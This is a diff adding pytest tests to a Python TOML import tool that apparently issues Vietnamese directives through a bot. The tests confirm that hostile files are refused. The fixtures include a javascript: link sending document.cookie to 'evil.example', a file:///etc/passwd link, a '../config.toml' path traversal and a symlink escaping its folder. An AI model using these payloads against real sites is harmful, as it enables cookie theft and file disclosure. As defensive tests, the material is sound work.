@@ -173,3 +173,145 @@ async def test_the_whole_sample_file_in_one_go(
             (await s.execute(select(Delivery.state, func.count()).group_by(Delivery.state))).all()
         )
     assert states == {"sent": 3 * (4 + 5 + 1)}
+
+
+def _hostile(first: str, folder: Path) -> dict[str, tuple[str, str, str]]:
+    """name: (TOML text, the line the error names, what the one-line error ends with)."""
+    link = 'links = [{ label = "Trang Tự hào Bình Phước", url = "http://www.facebook.com/trangtuhaobinhphuoc/" }]'
+    assert link in first
+
+    def with_links(url: str) -> str:
+        return first.replace(link, f'links = [{{ label = "Trang", url = "{url}" }}]')
+
+    def with_attachment(name: str) -> str:
+        return first.replace(link, f'{link}\nattachments = ["{name}"]')
+
+    body = first.split('body = """', 1)[1].split('"""', 1)[0]
+    return {
+        "javascript: link": (
+            with_links("javascript:fetch('//evil.example/'+document.cookie)"),
+            "links",
+            "chỉ nhận địa chỉ web bắt đầu bằng http:// hoặc https://.",
+        ),
+        "file: link": (
+            with_links("file:///etc/passwd"),
+            "links",
+            "chỉ nhận địa chỉ web bắt đầu bằng http:// hoặc https://.",
+        ),
+        "attachment in the parent folder": (
+            with_attachment("../config.toml"),
+            "attachments",
+            "Hãy chép tệp vào thư mục đó rồi ghi tên tệp.",
+        ),
+        "absolute attachment": (
+            with_attachment(str(folder.parent / "config.toml")),
+            "attachments",
+            "Hãy chép tệp vào thư mục đó rồi ghi tên tệp.",
+        ),
+        "symlink leaving the folder": (
+            with_attachment("phu-luc.pdf"),
+            "attachments",
+            "Hãy chép tệp vào thư mục đó rồi ghi tên tệp.",
+        ),
+        "1 MB body": (
+            first.replace(body, "\nCán bộ & đảng viên <học tập>. " * 35_000),
+            "body",
+            "Hãy đưa toàn văn vào tệp đính kèm (PDF) và chỉ ghi tóm tắt ở nội dung.",
+        ),
+        "issued in 9999": (
+            first.replace("issued_on = 2019-02-15", "issued_on = 9999-02-15"),
+            "issued_on",
+            "Ngày ban hành 15/02/9999 còn ở tương lai. Hãy ghi ngày đã ký văn bản.",
+        ),
+        "deadline in 9999": (
+            first.replace("receive_by = 2027-02-20T17:00:00", "receive_by = 9999-12-31T23:59:00"),
+            "receive_by",
+            "Hạn xác nhận đã nhận (receive_by) (31/12/9999 23:59) xa quá; muộn nhất là "
+            "14/01/2032. Hãy kiểm tra lại năm.",
+        ),
+        "deadline in year 1": (
+            first.replace("receive_by = 2027-02-20T17:00:00", "receive_by = 0001-01-01T03:00:00"),
+            "receive_by",
+            "Hạn receive_by (01/01/0001 03:00) đã qua. Hãy nhập một thời điểm trong tương lai.",
+        ),
+        "title longer than its column": (
+            first.replace(
+                'title = "V/v tăng cường', 'title = "' + '&"<' * 200 + " V/v tăng cường", 1
+            ).replace('&"<', '&\\"<'),
+            "title",
+            "Trích yếu (title) dài quá (681 ký tự); tối đa 512 ký tự. Hãy rút gọn.",
+        ),
+    }
+
+
+@pytest.mark.timeout(120)
+async def test_a_hostile_file_is_refused_in_one_line_and_writes_nothing(
+    fast: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Issue 9 items 1, 8, 9: the TOML path obeys the dialogue's rules (no javascript:/file:
+    links, attachments only from the file's folder, a body cap, sane dates, lengths that fit
+    PostgreSQL), never hangs, and says which line of the file is wrong."""
+    h = fast
+    await build_scene(h)
+    folder = tmp_path / "vb"
+    folder.mkdir()
+    (tmp_path / "config.toml").write_text('[bot]\ntoken = "123:SECRET"\n', encoding="utf-8")
+    (folder / "phu-luc.pdf").symlink_to(tmp_path / "config.toml")
+    file = folder / "directives.toml"
+    good = BLOCKS["297-CV/BTGTU"]
+    for name, (bad, field, reason) in _hostile(BLOCKS["1208-CV/BTGTU"], folder).items():
+        text = good + "\n" + bad
+        file.write_text(text, encoding="utf-8")
+        code, out, err = await run_cli(h, tmp_path, file, capsys)
+        assert (code, out) == (1, []), name
+        assert len(err) == 1 and err[0].endswith(reason), (name, err)
+        line = _line_in_second_table(text, f"{field} ")
+        assert err[0].startswith(
+            f"{file} (dòng {line}): không ban hành văn bản nào — văn bản 1208-CV/BTGTU: "
+        ), (name, err)
+        assert await count(h, Directive.id) == 0, name
+        assert await count(h, Delivery.id) == 0, name
+
+
+def _line_in_second_table(text: str, start: str) -> int:
+    lines = text.splitlines()
+    table = [n for n, x in enumerate(lines) if x == "[[directive]]"][1]
+    return next(n for n in range(table, len(lines)) if lines[n].startswith(start)) + 1
+
+
+async def test_field_errors_of_the_file_name_their_line_not_a_type_error(
+    fast: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Issue 9 item 8: "directive 2: unknown field" came out as "Translator.__call__() got
+    multiple values for argument 'key'"; a syntax error names its line too."""
+    h = fast
+    await build_scene(h)
+    good, first = BLOCKS["297-CV/BTGTU"], BLOCKS["1208-CV/BTGTU"]
+    cases = {
+        first.replace("requires_study = true", "requires_studdy = true"): (
+            "requires_studdy",
+            'văn bản thứ 2: không có trường "requires_studdy"',
+        ),
+        first.replace("requires_study = true", 'requires_study = "có"'): (
+            "requires_study",
+            'văn bản thứ 2: trường "requires_study" cần dạng true/false',
+        ),
+        first.replace('issuer = "Ban Tuyên giáo Tỉnh ủy Bình Phước"\n', ""): (
+            "[[directive]]",
+            'văn bản thứ 2: thiếu trường "issuer"',
+        ),
+    }
+    for bad, (field, reason) in cases.items():
+        text = good + "\n" + bad
+        code, out, err = await run_cli(h, tmp_path, text, capsys)
+        assert code == 1 and out == [] and len(err) == 1, err
+        line = _line_in_second_table(text, field)
+        assert err[0] == (
+            f"{tmp_path / 'directives.toml'} (dòng {line}): không ban hành văn bản nào — {reason}"
+        )
+    text = good + "\n[[directive]]\nnumber = \n" + good
+    line = text.splitlines().index("number = ") + 1
+    code, out, err = await run_cli(h, tmp_path, text, capsys)
+    assert code == 1 and len(err) == 1
+    assert "sai cú pháp TOML" in err[0] and f"(at line {line}, column 10)" in err[0], err
+    assert await count(h, Directive.id) == 0
